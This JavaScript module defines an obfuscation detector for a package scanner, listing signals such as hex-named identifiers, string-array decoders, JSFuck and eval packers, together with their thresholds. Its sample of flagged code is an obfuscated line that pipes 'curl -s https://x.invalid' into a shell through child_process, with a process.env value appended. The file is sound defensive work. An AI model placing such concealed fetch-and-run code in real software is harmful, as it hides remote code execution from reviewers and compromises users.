import { defineCapability } from './define.js';

export default defineCapability({
  id: 'obfuscated',
  title: 'Obfuscated code',
  description:
    'A file is deliberately obfuscated: string-array decoders, hex-named identifiers, flattened control flow, escaped strings, JSFuck, or code unpacked and run on the spot. Minified and bundled code is not.',
  severity: 'high',
  docs:
    'Obfuscation hides what code does from review and from static analysis; published libraries almost never ' +
    'need it, and malware almost always uses it (the September 2025 chalk/debug payload was javascript-obfuscator ' +
    'output). Each finding names the signal that fired (its `api`) and where it first showed. Minifiers (terser, ' +
    'esbuild) and bundlers (webpack, rollup, esbuild) shorten names and drop whitespace but keep property names, ' +
    'plain numbers and readable strings, so none of these signals fire on their output.',
  obfuscation: {
    signals: {
      // Distinct `_0x…` names: javascript-obfuscator's default naming; no minifier produces them.
      'hex-identifiers': { min: 10 },
      // `obj[_0x4f2a(0x1e8)]` lookups into a string array (none in the ~920 packages of the bench lockfile).
      'string-array': { min: 3 },
      // `switch (order[i++]) { case '0': …` dispatch loops of flattened functions (a lexer may have one).
      'control-flow-flattening': { min: 2 },
      // Escapes of letters and digits (`\x63\x68…`), which never need one; most escapes in the file are such.
      'escaped-strings': { min: 100, share: 0.8 },
      // A run of at least this many `[]()!+` characters.
      jsfuck: { min: 500 },
      // Literals coerced to strings and indexed for their characters: `(![]+[])[+[]]`.
      'coercion-strings': { min: 5 },
      // `eval(function (p,a,c,k,e,d) {…}(…))`, `eval(Function('…')(…))`, `Function(atob('…'))`.
      'eval-packer': { min: 1 },
    },
  },
  examples: {
    flags:
      "var _0x51c4=['exec','child_process','curl -s https://x.invalid | sh','process','env'];var _0x5e3a=function(_0x6f1b){return _0x51c4[_0x6f1b-0x0];};require(_0x5e3a(0x1))[_0x5e3a(0x0)](_0x5e3a(0x2)+global[_0x5e3a(0x3)][_0x5e3a(0x4)]);",
    ok: 'var a=require("child_process");a.exec("ls -la",function(b,c){b||console.log(c)});',
  },
});
